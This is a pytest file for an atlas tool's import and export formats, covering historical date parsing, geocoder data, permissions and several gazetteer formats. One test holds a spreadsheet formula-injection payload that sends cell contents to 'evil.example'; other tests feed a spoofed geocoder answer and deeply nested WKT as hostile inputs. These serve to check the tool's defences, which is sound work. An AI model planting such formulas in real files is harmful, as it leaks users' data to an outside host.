"""Stage: formats.

What an import may change, and how a plain GeoJSON's dates are read (findings of an
attacker's and a historian's review): an import adds, never alters the atlas's own places
(a file's geocoder answers for other ids are left out, and said); a broken geocoded.json
stops the import with nothing written; a plain feature's date that cannot be read is
listed, never silently dropped; a year given as a number is read as historians write it
(-44 is 44 BCE), and said; our own schema's start and end that are no dates are refused
with where they are.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import yaml

from conftest import ROOT, run_atlas, tree_digest


def _collection(features: list[dict[str, Any]], **top: Any) -> dict[str, Any]:
    return {"type": "FeatureCollection", **top, "features": features}


def _point(properties: dict[str, Any], lon: float = 1.0, lat: float = 1.0) -> dict[str, Any]:
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [lon, lat]}, "properties": properties}


def _write(path: Path, data: dict[str, Any]) -> Path:
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


# A geocoder answer for the default atlas's Moscow, at Cape Town.
CAPE_TOWN = {"moscow": {"query": "Moscow", "hints": {"country": "RU"}, "provider": "geonames",
                        "display_name": "Moscow", "lat": -33.9, "lon": 18.4, "date": "2020-01-01"}}


def test_an_import_never_moves_the_atlas_s_own_places(tmp_path: Path) -> None:
    atlas = tmp_path / "atlas"
    shutil.copytree(ROOT / "places", atlas)
    before = (atlas / "geocoded.json").read_text(encoding="utf-8")
    given = _write(tmp_path / "g.geojson", _collection([_point({"name": "Harmless spot"})],
                                                       atlas={"settings": {"title": "x"}, "geocoded": CAPE_TOWN}))
    result = run_atlas("import", given, "-o", atlas)
    assert result.returncode == 0, result.stderr
    assert "geocoder answers for places the file does not bring left out" in result.stdout and "moscow" in result.stdout
    assert (atlas / "geocoded.json").read_text(encoding="utf-8") == before
    assert run_atlas("build", atlas, "-o", tmp_path / "build").returncode == 0


def test_a_broken_geocoded_json_stops_the_import_with_nothing_written(tmp_path: Path) -> None:
    line = _collection([{"type": "Feature", "geometry": {"type": "Point", "coordinates": [49.1, 55.8]},
                         "properties": {"type": "place", "id": "kazan", "name": "Kazan",
                                        "atlas": {"id": "kazan", "name": "Kazan", "geocode": "Kazan"}}}],
                       atlas={"geocoded": {"kazan": {**CAPE_TOWN["moscow"], "query": "Kazan", "lat": 55.8,
                                                     "lon": 49.1}}})
    given = _write(tmp_path / "g.geojson", line)
    for broken in ("{bad", '{"version": 1, "places": {"x": 5}}', "[]"):
        atlas = tmp_path / f"atlas-{len(broken)}"
        shutil.copytree(ROOT / "tests" / "samples" / "good", atlas)
        (atlas / "geocoded.json").write_text(broken, encoding="utf-8")
        before = tree_digest(atlas)
        result = run_atlas("import", given, "-o", atlas)
        assert result.returncode == 2, (broken, result.stdout, result.stderr)
        assert "geocoded.json" in result.stderr and "Traceback" not in result.stderr
        assert tree_digest(atlas) == before


def test_a_plain_feature_s_dates_are_read_or_listed(tmp_path: Path) -> None:
    given = _write(tmp_path / "plain.geojson", _collection([
        _point({"name": "Rome", "year": -44}),
        _point({"name": "Carthage", "start": -264, "end": -146}),
        _point({"name": "Cannae", "date": "2 August 216 BC"}),
        _point({"name": "Actium", "date": "-0030-09-02"}),
        _point({"name": "Nowhere", "date": "1961-13-45"}),
        _point({"name": "Zero", "year": 0}),
        _point({"name": "Banana", "start": "1945", "end": "banana"}),
    ]))
    out = tmp_path / "out"
    result = run_atlas("import", given, "-o", out)
    assert result.returncode == 0, result.stderr
    dates = {record["title"]: record["date"]
             for record in yaml.safe_load((out / "events.yaml").read_text(encoding="utf-8"))}
    assert dates == {"Rome": "-0043", "Carthage": "-0263/-0145", "Cannae": "-0215-08-02", "Actium": "-0030-09-02"}
    assert "3 years before 1 CE read as historians write them, -44 as 44 BCE" in result.stdout
    assert "3 feature dates not read" in result.stdout
    for where in ("/features/4/properties/date '1961-13-45'", "/features/5/properties/year '0'",
                  "/features/6/properties/end 'banana'"):
        assert where in result.stdout


def test_our_schema_s_start_and_end_that_are_no_dates_are_refused_where_they_are(tmp_path: Path) -> None:
    given = _write(tmp_path / "ours.geojson", _collection([_point(
        {"type": "place", "id": "x", "name": "X", "start": "Y-170000000002", "end": "Y170000000002"})]))
    result = run_atlas("import", given, "-o", tmp_path / "out")
    assert result.returncode == 2
    assert "ours.geojson:/features/0/properties: start 'Y-170000000002'" in result.stderr
    assert not (tmp_path / "out").exists()


def _small_atlas(folder: Path, name: str, forms: str = "") -> Path:
    folder.mkdir()
    (folder / "atlas.yaml").write_text("title: Small\n", encoding="utf-8")
    (folder / "places.yaml").write_text(f"- id: p\n  name: {json.dumps(name)}\n  coordinates: [41.9, 12.5]\n{forms}",
                                        encoding="utf-8")
    (folder / "events.yaml").write_text("[]\n", encoding="utf-8")
    (folder / "periods.yaml").write_text("[]\n", encoding="utf-8")
    return folder


def test_lp_tsv_guards_formulas_and_reads_them_back(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    atlas = _small_atlas(tmp_path / "a", formula, "  kind: \"=1+1\"\n")
    out = tmp_path / "x.tsv"
    assert run_atlas("export", atlas, "--format", "lptsv", "-o", out).returncode == 0
    cells = [line.split("\t") for line in out.read_text(encoding="utf-8").splitlines()][1]
    assert f"'{formula}" in cells and "'=1+1" in cells
    assert not any(cell and cell[0] in "=+-@" for cell in cells if not cell.lstrip("-").replace(".", "").isdigit())
    back = tmp_path / "back"
    assert run_atlas("import", out, "-o", back).returncode == 0
    place = yaml.safe_load((back / "places.yaml").read_text(encoding="utf-8"))[0]
    assert place["name"] == formula


def test_lp_tsv_says_which_names_it_cannot_hold(tmp_path: Path) -> None:
    atlas = _small_atlas(tmp_path / "a", "Café@en")
    result = run_atlas("export", atlas, "--format", "lptsv", "-o", tmp_path / "x.tsv")
    assert result.returncode == 0
    said = result.stdout + result.stderr
    assert "names holding '@' or ';'" in said and "Café@en" in said


def test_a_deeply_nested_geowkt_is_refused_at_its_row(tmp_path: Path) -> None:
    given = tmp_path / "deep.tsv"
    given.write_text("id\ttitle\ttitle_source\tstart\tgeowkt\n"
                     f"a\tA\tme\t1900\tPOINT {'(' * 3000}1 2{')' * 3000}\n", encoding="utf-8")
    result = run_atlas("import", given, "-o", tmp_path / "out", "--format", "lptsv")
    assert result.returncode == 2
    assert "deep.tsv:row 2: a value nested too deeply" in result.stderr and "RecursionError" not in result.stderr


def test_an_import_keeps_the_permissions_of_the_files_it_adds_to(tmp_path: Path) -> None:
    atlas = tmp_path / "atlas"
    shutil.copytree(ROOT / "tests" / "samples" / "good", atlas)
    (atlas / "places.yaml").chmod(0o600)
    given = _write(tmp_path / "g.geojson", _collection([_point({"name": "Harmless spot"})]))
    assert run_atlas("import", given, "-o", atlas).returncode == 0
    assert (atlas / "places.yaml").stat().st_mode & 0o777 == 0o600
    assert "Harmless spot" in (atlas / "places.yaml").read_text(encoding="utf-8")


def test_of_a_geometry_collection_the_member_in_force_last_is_the_place_s(tmp_path: Path) -> None:
    def member(geometry: dict[str, Any], start: str) -> dict[str, Any]:
        return {**geometry, "when": {"timespans": [{"start": {"in": start}}]}}
    square = {"type": "Polygon", "coordinates": [[[10, 40], [12, 40], [12, 42], [10, 42], [10, 40]]]}
    given = _write(tmp_path / "c.lpf.json", {"type": "FeatureCollection", "@context": "https://w3id.org/lpf",
                                             "features": [{"@id": "http://example.org/c", "type": "Feature",
                                                           "properties": {"title": "C"},
                                                           "names": [{"toponym": "C"}],
                                                           "geometry": {"type": "GeometryCollection", "geometries": [
                                                               member({"type": "Point", "coordinates": [11, 41]},
                                                                      "1900"),
                                                               member(square, "1950")]}}]})
    out = tmp_path / "out"
    result = run_atlas("import", given, "-o", out)
    assert result.returncode == 0, result.stderr
    place = yaml.safe_load((out / "places.yaml").read_text(encoding="utf-8"))[0]
    assert "coordinates" not in place  # the polygon of 1950, not the point of 1900


def test_a_story_s_unreadable_slides_are_each_said_and_the_others_imported(tmp_path: Path) -> None:
    def slide(n: int, lat: Any, lon: Any) -> dict[str, Any]:
        return {"date": "1903", "text": {"headline": f"Slide {n}"}, "location": {"lat": lat, "lon": lon}}
    story = {"storymap": {"slides": [slide(1, 41.9, 12.5), slide(2, 95, 400), slide(3, 41, "12abc"), "a string"]}}
    given = _write(tmp_path / "s.json", story)
    result = run_atlas("import", given, "-o", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    for where in ("/storymap/slides/1/location: [95.0, 400.0] is not on the Earth",
                  "/storymap/slides/2/location: lat and lon should be numbers", "/storymap/slides/3: each slide is"):
        assert f"slide left out: {where}" in result.stdout
    titles = [record["title"] for record in yaml.safe_load((tmp_path / "out" / "events.yaml").read_text("utf-8"))]
    assert titles == ["Slide 1"]
    story["storymap"]["slides"] = story["storymap"]["slides"][1:]  # nothing readable: every problem, nothing written
    result = run_atlas("import", _write(tmp_path / "none.json", story), "-o", tmp_path / "none")
    assert result.returncode == 2 and result.stderr.count("none.json:/storymap/slides/") == 3
    assert not (tmp_path / "none").exists()


def test_rows_that_cannot_be_read_are_each_said_with_the_edtf_to_write(tmp_path: Path) -> None:
    # A CSV saved by a spreadsheet that read its dates as numbers (-0100 → -100, 0700 → 700).
    saved = tmp_path / "saved.csv"
    saved.write_text("date,title\n-100,A\n1945,B\n700,C\n", encoding="utf-8")
    result = run_atlas("import", saved, "-o", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    assert "row 2: invalid date '-100': a year has four digits; if you mean 100 BCE write -0099" in result.stdout
    assert "row 4: invalid date '700': a year has four digits: write 0700 (700 CE)" in result.stdout
    saved.write_text("date,title\n-100,A\n700,C\n", encoding="utf-8")  # nothing readable: all said, nothing written
    result = run_atlas("import", saved, "-o", tmp_path / "none")
    assert result.returncode == 2 and "saved.csv:row 2:" in result.stderr and "saved.csv:row 3:" in result.stderr
    assert not (tmp_path / "none").exists()
    tsv = tmp_path / "g.tsv"
    tsv.write_text("id\ttitle\ttitle_source\tstart\tlon\tlat\n"
                   "a\tA\tme\t0\t1\t1\nb\tB\tme\t1900\t2\t2\nc\tC\tme\t~1200\t3\t3\n", encoding="utf-8")
    result = run_atlas("import", tsv, "-o", tmp_path / "gaz", "--format", "lptsv")
    assert result.returncode == 0, result.stderr
    assert "row left out: row 2: start: '0'" in result.stdout and "row left out: row 4: start: '~1200'" in result.stdout


def test_our_geojson_adds_no_kind_the_author_never_wrote(tmp_path: Path) -> None:
    atlas = _small_atlas(tmp_path / "a", "P")
    exported = tmp_path / "a.geojson"
    assert run_atlas("export", atlas, "--format", "geojson", "-o", exported).returncode == 0
    assert run_atlas("import", exported, "-o", tmp_path / "back").returncode == 0
    assert "kind" not in yaml.safe_load((tmp_path / "back" / "places.yaml").read_text(encoding="utf-8"))[0]
